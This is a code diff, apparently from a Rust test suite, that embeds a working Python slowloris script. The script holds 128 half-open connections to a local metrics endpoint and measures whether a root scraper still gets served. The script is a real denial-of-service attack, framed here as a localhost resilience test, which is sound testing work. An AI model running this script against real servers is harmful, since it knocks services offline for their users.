@@ -426,3 +426,49 @@ pub fn listening_port(pid: u32) -> Option<u16> {
         listening.then(|| u16::from_str_radix(f[1].rsplit(':').next()?, 16).ok()).flatten()
     })
 }
+
+/// The tenant's slowloris: `CONNS` connections to `--metrics` that trickle headers a line at a
+/// time and never end them, each opened again as soon as it is closed. Prints how many times.
+pub const SLOWLORIS: &str = r#"
+import socket, sys, time
+port, n, end = int(sys.argv[1]), int(sys.argv[2]), time.time() + float(sys.argv[3])
+def new():
+    s = socket.socket()
+    s.settimeout(1)
+    try:
+        s.connect(("127.0.0.1", port))
+        s.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
+        return s
+    except OSError:
+        return None
+socks, reopened = [new() for _ in range(n)], 0
+while time.time() < end:
+    for i, s in enumerate(socks):
+        try:
+            if s is None:
+                raise OSError
+            s.send(b"X-Slow: 1\r\n")
+        except OSError:
+            reopened += 1
+            socks[i] = new()
+    time.sleep(0.1)
+print(reopened, flush=True)
+"#;
+
+/// The tenant's connections, 4 times what the endpoint holds at once.
+pub const CONNS: usize = 128;
+
+/// A scrape of `/metrics` as root (the scraper): the status, the body and how long it took.
+pub fn scrape(port: u16) -> (u32, String, std::time::Duration) {
+    use std::io::{Read, Write};
+    let start = std::time::Instant::now();
+    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
+    s.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
+    write!(s, "GET /metrics HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").unwrap();
+    let mut resp = String::new();
+    let _ = s.read_to_string(&mut resp);
+    let took = start.elapsed();
+    let (head, body) = resp.split_once("\r\n\r\n").unwrap_or((&resp, ""));
+    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
+    (status, body.to_owned(), took)
+}
